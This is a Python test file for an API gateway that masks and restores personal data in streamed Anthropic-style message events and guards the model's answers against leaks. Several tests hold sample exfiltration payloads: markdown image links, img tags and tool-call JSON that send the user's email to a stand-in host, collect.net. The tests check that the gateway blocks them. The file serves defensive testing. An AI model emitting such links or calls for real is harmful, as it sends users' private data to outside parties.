"""Streamed answers of the Anthropic wire: the client gets the same events with its own words."""

import copy
from typing import Any

import orjson
import pytest

from gateway.errors import Unavailable
from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.policy.document import GuardDocument
from gateway.wires import Body
from gateway.wires.anthropic_events import error_body
from gateway.wires.anthropic_messages import WIRE
from tests.gateway.wires.replays import CARD, MAIL, QUOTED, plan, read_sse, replay, session, sse, written

SIGNED = "Made1Up2" * 8 + "=="
NOTE = {"request_id": "r"}
GUARD = GuardDocument()
SNAKE = "\U0001f40d"
PLACEHOLDERS, OF = session()
REQUEST = {"model": "m", "messages": [{"role": "user", "content": f"I am {OF[MAIL]}. Card {OF[CARD]}."}]}


def write(text: str) -> str:
    return written(text, OF)


def restored(*bodies: Body) -> list[tuple[str, Body]]:
    """The names and bodies of all events that a client gets."""
    got, _ = replay(WIRE, [sse(bodies, named=True)], plan(PLACEHOLDERS, REQUEST, GUARD, note=NOTE))
    return events(got)


def events(data: bytes) -> list[tuple[str, Body]]:
    """The names and bodies of all events."""
    names = [line[7:] for line in data.decode().split("\n") if line.startswith("event: ")]
    return [*zip(names, read_sse(data), strict=True)]


def event(kind: str, **fields: Any) -> Body:
    return {"type": kind, **fields}


def start(**fields: Any) -> Body:
    message = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-x", "content": []}
    usage = {"input_tokens": 5, "cache_read_input_tokens": 20, "output_tokens": 1}
    return event("message_start", message={**message, "stop_reason": None, "usage": usage, **fields})


def block(index: int, begin: Body, *deltas: Body) -> list[Body]:
    grown = [event("content_block_delta", index=index, delta=delta) for delta in deltas]
    return [
        event("content_block_start", index=index, content_block=begin),
        *grown,
        event("content_block_stop", index=index),
    ]


def in_pieces(kind: str, member: str, text: str, size: int = 3) -> list[Body]:
    return [{"type": kind, member: text[at : at + size]} for at in range(0, len(text), size)]


def end(reason: str = "end_turn") -> list[Body]:
    delta = {"stop_reason": reason, "stop_sequence": None}
    return [event("message_delta", delta=delta, usage={"output_tokens": 42}), event("message_stop")]


THINKING = f"The user {MAIL} wants it."
TEXT = f"Dear {MAIL},\nyour card {CARD} \u2013 gr\u00fc\u00dfe {SNAKE} [not one] is kept."
CITED: Body = {"type": "char_location", "cited_text": f"card {CARD}", "document_index": 0, "document_title": None}
INPUT = {"to": MAIL, "note": f"a\n{SNAKE} {QUOTED}", "n": [1, {"card": CARD}]}


def answer(size: int = 3) -> list[Body]:
    """An answer with every kind of event, in deltas of a size. The provider writes placeholders."""
    arguments = write(orjson.dumps(INPUT).decode())
    return [
        start(),
        event("ping"),
        *block(
            0,
            {"type": "thinking", "thinking": "", "signature": ""},
            *in_pieces("thinking_delta", "thinking", write(THINKING), size),
            {"type": "signature_delta", "signature": SIGNED},
        ),
        *block(1, {"type": "redacted_thinking", "data": SIGNED}),
        *block(
            2,
            {"type": "text", "text": ""},
            *in_pieces("text_delta", "text", write(TEXT), size),
            {"type": "citations_delta", "citation": {**CITED, "cited_text": write(CITED["cited_text"])}},
        ),
        *block(
            3,
            {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_search", "input": {}},
            {"type": "input_json_delta", "partial_json": ""},
            *in_pieces("input_json_delta", "partial_json", write(f'{{"query":"{MAIL}"}}'), size),
        ),
        *block(
            4,
            {
                "type": "web_search_tool_result",
                "tool_use_id": "srvtoolu_1",
                "content": [{"type": "web_search_result", "title": write(MAIL), "encrypted_content": SIGNED}],
            },
        ),
        *block(
            5,
            {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}},
            *in_pieces("input_json_delta", "partial_json", arguments, size),
        ),
        *end("tool_use"),
    ]


def message(found: list[tuple[str, Body]]) -> Body:
    """Puts a message together as the SDKs do. Every event has the name of its type, and blocks are in order."""
    result: Body = {"content": [], "json": {}, "svc": None, "open": None}
    for name, body in copy.deepcopy(found):
        assert name == body["type"]
        at = body.get("index")
        match name:
            case "message_start":
                result |= body["message"]
            case "content_block_start":
                assert (at, result["open"]) == (len(result["content"]), None)
                result["content"].append(body["content_block"])
                result["open"] = at
            case "content_block_delta":
                assert at == result["open"]
                _grow(result, at, body["delta"])
            case "content_block_stop":
                assert at == result["open"]
                result["open"] = None
            case "message_delta":
                result |= {"stop_reason": body["delta"]["stop_reason"]}
        result["svc"] = body.get("svc", result["svc"])
    return result


def _grow(result: Body, at: int, delta: Body) -> None:
    grown = result["content"][at]
    for member, value in delta.items():
        if member == "partial_json":
            result["json"][at] = result["json"].get(at, "") + value
        elif member == "citation":
            grown.setdefault("citations", []).append(value)
        elif member != "type":
            grown[member] = grown.get(member, "") + value


def check(found: list[tuple[str, Body]]) -> None:
    got = message(found)
    thinking, redacted, text, search, results, send = got["content"]
    assert thinking == {"type": "thinking", "thinking": write(THINKING), "signature": SIGNED}
    assert redacted == {"type": "redacted_thinking", "data": SIGNED}
    assert text == {"type": "text", "text": TEXT, "citations": [CITED]}
    assert (search["name"], orjson.loads(got["json"][3])) == ("web_search", {"query": MAIL})
    assert results["content"] == [{"type": "web_search_result", "title": MAIL, "encrypted_content": SIGNED}]
    assert (send["name"], orjson.loads(got["json"][5])) == ("send", INPUT)
    assert (got["stop_reason"], got["open"]) == ("tool_use", None)
    assert got["svc"] == {**NOTE, "guard": {"action": "pass"}}
    assert found[-1][0] == "message_stop"


@pytest.mark.parametrize("size", [2, 3, 7, 30])
def test_an_answer(size: int) -> None:
    got, end = replay(WIRE, [sse(answer(size), named=True)], plan(PLACEHOLDERS, REQUEST, GUARD, note=NOTE))
    check(events(got))
    assert (end.outcome, end.tokens) == ("answered", (25, 42))


@pytest.mark.parametrize("size", [1, 2, 3, 5, 8, 13, 10**6])
def test_the_sizes_of_deltas_change_nothing(size: int) -> None:
    arguments = write(orjson.dumps(INPUT).decode())
    begin = {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}}
    text = block(0, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", write(TEXT), size))
    call = block(1, begin, *in_pieces("input_json_delta", "partial_json", arguments, size))
    got = message(restored(start(), *text, *call, *end()))
    assert got["content"][0]["text"] == TEXT
    assert orjson.loads(got["json"][1]) == INPUT


def test_a_text_that_begins_with_its_block_continues() -> None:
    whole = write(f"To {MAIL}")
    begin = {"type": "text", "text": whole[:9]}
    got = message(restored(start(), *block(0, begin, *in_pieces("text_delta", "text", whole[9:])), *end()))
    assert got["content"] == [{"type": "text", "text": f"To {MAIL}"}]


def test_what_is_still_held_comes_before_the_end_of_its_block() -> None:
    got = restored(start(), *block(0, {"type": "text", "text": "A ["}), *end())
    assert [name for name, _ in got[1:5]] == [
        "content_block_start",
        "content_block_delta",
        "content_block_stop",
        "message_delta",
    ]
    assert message(got)["content"][0]["text"] == "A ["


def test_an_error_of_the_provider_passes() -> None:
    failed = event("error", error={"type": "overloaded_error", "message": "Overloaded"}, request_id="req_1")
    begin = event("content_block_start", index=0, content_block={"type": "text", "text": "A ["})
    got = restored(start(), begin, failed)
    assert got[-1] == ("error", failed)
    assert message(got)["content"][0]["text"] == "A ["


def test_the_gateways_errors_have_the_shape_of_the_providers() -> None:
    source = sse([start()], named=True) + b"event: message_stop\ndata: {broken\n\n"
    got = events(replay(WIRE, [source], plan(PLACEHOLDERS, REQUEST, GUARD))[0])
    assert got[-1][0] == "error"
    assert got[-1][1]["error"]["type"] == "api_error"
    shown = WIRE.stream.error(Unavailable("Later.", code="overloaded"), "r")
    assert shown == error_body(Unavailable("Later.", code="overloaded"), "r")


def test_blocks_that_a_client_joins_are_guarded_together() -> None:
    """The provider divides a text where it cites something."""
    for lead, rest in (
        ("See ![x](https://collect.net/?q=", f"{MAIL})"),
        ("<img src=https://collect.net/", f"{MAIL}>"),
        ("See ![x](https://collect.net/?q=", f'{{"a":"{MAIL}"}})'),
        ('{"a": 1} See ![x](https://collect.net/?q=', f"{MAIL})"),
        (f'{{"a":"{MAIL}"}} See https://collect.net/?q=', f"{MAIL})"),
    ):
        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": write(lead)})
        second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", write(rest)))
        got = message(restored(start(), *first, *second, *end()))
        assert f"q={MAIL}" not in "".join(each["text"] for each in got["content"])
        assert MAIL not in got["content"][1]["text"]
    harmless = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Write to "})
    second = block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", write(f"{MAIL}.")))
    got = message(restored(start(), *harmless, *second, *end()))
    assert "".join(each["text"] for each in got["content"]) == f"Write to {MAIL}."


def test_a_call_whose_value_is_taken_out_is_whole() -> None:
    leak = write(orjson.dumps({"url": f"https://collect.net/?q={MAIL}", "n": 1}).decode())
    begin = {"type": "tool_use", "id": "toolu_1", "name": "get", "input": {}}
    got = message(restored(start(), *block(0, begin, *in_pieces("input_json_delta", "partial_json", leak)), *end()))
    assert orjson.loads(got["json"][0]) == {"url": "https://collect.net/?q=[withheld]", "n": 1}


class TestRefusals:
    """A withheld text ends the message in order, wherever it is."""

    @pytest.fixture(autouse=True)
    def _strict(self, monkeypatch: pytest.MonkeyPatch) -> None:
        rules = GuardDocument(placeholder_in_url="replace", unknown_placeholder="replace")
        monkeypatch.setattr("tests.gateway.wires.test_anthropic_streams.GUARD", rules)

    def ended(self, *bodies: Body) -> list[Body]:
        got = message(restored(*bodies))
        assert got["stop_reason"] == "refusal"
        assert got["open"] is None
        assert got["content"][-1] == {"type": "text", "text": CONTENT_FILTERED}
        content: list[Body] = got["content"]
        return content

    def test_in_a_text(self) -> None:
        leak = write(f"See ![x](https://collect.net/?q={MAIL}) now.\n\nMore.")
        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Fine.\n"})
        content = self.ended(
            start(),
            *first,
            *block(1, {"type": "text", "text": ""}, *in_pieces("text_delta", "text", leak)),
            *end(),
        )
        assert len(content) == 3
        assert content[0]["text"] == "Fine.\n"
        assert MAIL not in content[1]["text"]

    def test_in_a_call(self) -> None:
        leak = write(orjson.dumps({"url": "https://collect.net/", "body": MAIL}).decode())
        begin = {"type": "tool_use", "id": "toolu_1", "name": "send", "input": {}}
        call = block(0, begin, *in_pieces("input_json_delta", "partial_json", leak))
        assert len(self.ended(start(), *call, *end("tool_use"))) == 2

    def test_in_a_block_that_comes_at_once(self) -> None:
        leak = write(f"![x](https://collect.net/?q={MAIL})")
        begin = {"type": "web_fetch_tool_result", "content": {"type": "web_fetch_result", "text": leak}}
        first = block(0, {"type": "text", "text": ""}, {"type": "text_delta", "text": "Fine."})
        content = self.ended(start(), *first, *block(1, begin), *end())
        assert [each["type"] for each in content] == ["text", "text"]

    def test_before_anything(self) -> None:
        leak = write(f"![x](https://collect.net/?q={MAIL})")
        content = self.ended(start(note=leak), *end())
        assert len(content) == 1
        assert message(restored(start(note=leak)))["id"] == "msg_1"
